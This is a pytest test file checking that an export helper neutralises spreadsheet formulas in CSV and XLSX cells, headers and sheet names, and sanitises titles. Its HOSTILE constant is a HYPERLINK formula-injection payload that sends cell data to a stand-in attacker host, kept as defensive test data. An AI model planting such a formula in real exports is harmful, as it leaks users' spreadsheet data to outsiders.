"""The one export helper neutralises formulas in cells, headers and sheet names, and never fails on a title."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from academy.reports.exports import csv_bytes, export_response, sheet_name, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_headers_and_cells_are_never_formulas_in_xlsx():
    sheet = read_xlsx(xlsx_bytes([HOSTILE, "+1", "Name"], [["@SUM(1)", "-2", "Plain"]]))
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["'" + HOSTILE, "'+1", "Name"]
    assert values[1] == ["'@SUM(1)", "'-2", "Plain"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_headers_and_cells_are_neutralised_in_csv():
    rows = list(csv.reader(io.StringIO(csv_bytes([HOSTILE, "Name"], [["=1+1", "Ada"]]).decode("utf-8-sig"))))
    assert rows == [["'" + HOSTILE, "Name"], ["'=1+1", "Ada"]]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Systems leadership: spring 2027 intake", "Systems leadership spring 2027"),
        ("[Roster] a/b\\c*d?e", "Roster a b c d e"),
        ("=HYPERLINK(1)", "HYPERLINK(1)"),
        ("'quoted'", "quoted"),
        ("", "Export"),
        (":::", "Export"),
    ],
)
def test_sheet_names_keep_only_what_excel_allows(title, expected):
    assert sheet_name(title) == expected
    assert len(sheet_name(title)) <= 31


def test_a_title_with_a_colon_or_control_characters_still_exports():
    response = export_response("xlsx", "Cohort: spring\x07 intake", ["Name\x01"], [["Ada\x0b Lovelace"]])
    assert response.status_code == 200
    sheet = read_xlsx(response.content)
    assert sheet.title == "Cohort spring intake"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Name"], ["Ada Lovelace"]]
